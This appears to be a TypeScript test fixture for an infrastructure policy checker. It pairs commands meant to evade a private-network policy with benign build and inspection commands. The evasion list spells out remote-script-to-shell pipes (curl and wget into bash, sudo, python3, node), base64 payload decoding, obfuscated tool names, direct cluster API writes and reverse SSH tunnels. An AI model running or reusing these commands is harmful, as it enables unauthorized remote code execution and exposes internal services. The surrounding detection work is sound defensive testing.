import { type Json, unknown } from "../engine";
import type { CleanCase, Evasion } from "./case";

type Props = { readonly [key: string]: Json };

const local = "command:local:Command";

const runs = (reason: string, props: Props | string, type = local): Evasion => ({
    reason,
    policy: "r1-private-aws",
    resources: [{ type, name: "shop", props: typeof props === "string" ? { create: props } : props }],
});

const builds = (reason: string, props: Props | string, type = local): CleanCase => ({
    reason,
    resources: [{ type, name: "shop", props: typeof props === "string" ? { create: props } : props }],
});

/** Commands that open a way past the gateway, or may do so. */
export const commandEvasions: readonly Evasion[] = [
    runs("a tool whose arguments are in the interpreter", {
        create: "--name shop",
        interpreter: ["aws", "elbv2", "create-load-balancer"],
    }),
    runs("an interpreter that is not known in part", { create: "true", interpreter: ["/bin/sh", unknown] }),
    runs("a script in the environment", {
        create: 'sh -c "$RUN"',
        environment: { TARGET: "shop", RUN: "kubectl apply -f shop.yaml" },
    }),
    runs("what the program runs on its next change is not known", { create: "true", update: unknown }),
    runs("a word in quotes within a tool's name", 'kube""ctl apply -f shop.yaml'),
    runs("a backslash within a tool's name", "kub\\ectl apply -f shop.yaml"),
    runs("a tool in an image", "docker run --rm amazon/aws-cli:2.15.0 elbv2 create-load-balancer --name shop"),
    runs("a tool in an image of another name", "docker run -v $PWD:/x bitnami/kubectl apply -f /x/shop.yaml"),
    runs("a namespace with the name of a verb that reads", "kubectl -n get apply -f shop.yaml"),
    runs("an option that nobody knows before a verb that reads", "kubectl --dry-run get apply -f shop.yaml"),
    runs("a tool that reads with options, and then writes", "kubectl -n shop get svc; kubectl -n shop expose pod web"),
    runs("options before a service, and a value that is none", "aws --profile ops --debug lambda add-permission"),
    runs("a script from the network by its whole path", "curl -s https://example.com/x | /bin/bash"),
    runs("a script from the network, for the superuser", "curl -s https://example.com/x | sudo -E bash -"),
    runs("a script from the network, with its errors", "wget -qO- https://example.com/x |& sh"),
    runs("a script from the network in Python", "curl -s https://example.com/x | python3 -"),
    runs("a script from the network in Node", "curl -s https://example.com/x.js | node && true"),
    runs("a script from the network as a file that is none", "bash <(curl -s https://example.com/x)"),
    runs("a script that is read into the shell", ". <(curl -s https://example.com/x)"),
    runs("a script on the shell's input", 'bash <<< "$(curl -s https://example.com/x)"'),
    runs("a script as the shell's argument", 'sh -c "$(curl -fsSL https://example.com/x)"'),
    runs("a script that is evaluated", "eval $(cat x)"),
    runs("a script in disguise, with more options", "base64 -w0 -d x > y"),
    runs("a script in disguise, by its long option", "base64 --decode x > y"),
    runs("a script in disguise, by another tool", "openssl base64 -A -d -in x -out y"),
    runs("the cluster's own API", "curl -X POST -d @service.json https://10.0.0.1/api/v1/namespaces/default/services"),
    runs("an API of a group of the cluster", "curl -X PATCH https://10.0.0.1/apis/networking.k8s.io/v1/ingresses"),
    runs("the cluster's own API by its name", "wget --post-file=x https://kubernetes.default/api"),
    runs("an API of AWS without its tool", "curl --aws-sigv4 aws:amz:eu-west-1:ec2 https://ec2.amazonaws.com"),
    runs("a tunnel that comes back", "ssh -o StrictHostKeyChecking=no -fNR 80:localhost:8080 serveo.net"),
    runs("a tunnel that comes back, with no other option", "ssh -R 80:localhost:8080 serveo.net"),
    runs("a script on another machine's standard input", { create: "sh", stdin: unknown }, "command:remote:Command"),
    runs("a dynamic provider in Python, of a module", {}, "pulumi-python:dynamic/shop:Opener"),
];

/** Commands that build, look or tell. */
export const commandCleanCases: readonly CleanCase[] = [
    builds("a command whose environment is not known", { create: "npm run build", environment: unknown }),
    builds("a command with a value of its environment that is not known", {
        create: "npm run build",
        environment: { VERSION: unknown, PORT: 8080, REGION: "eu-west-1" },
    }),
    builds("a command with an interpreter", {
        create: "print('built')",
        interpreter: ["/usr/bin/python3", "-c"],
        dir: "app",
    }),
    builds("looking into a namespace", "kubectl -n shop --context=dev get svc,ingress -o wide"),
    builds("waiting in a namespace", "kubectl --namespace shop wait --for=condition=Ready pod --all --timeout 60s"),
    builds("looking with a profile", "aws --profile ops eks --region eu-west-1 describe-cluster --name shop"),
    builds(
        "writing manifests to a file",
        "kustomize build overlays/dev > out.yaml && kubectl diff -f out.yaml || true",
    ),
    builds("planning", "terraform -chdir=network plan -out plan"),
    builds("a certificate for tests", "openssl req -x509 -newkey rsa:2048 -days 365 -nodes -keyout k.pem -out c.pem"),
    builds("a value in base64", "printf %s shop | base64 -w0 > shop.b64"),
    builds("JSON that a script formats", "curl -s https://example.com/x.json | python3 -m json.tool > x.json"),
    builds("a smoke test of an API", "curl -fsS https://api.example.com/api/v1/items -H x-api-key:$KEY"),
    builds("a copy over ssh", "ssh -o BatchMode=yes build@10.0.0.5 'ls -R /srv'", "command:remote:Command"),
];
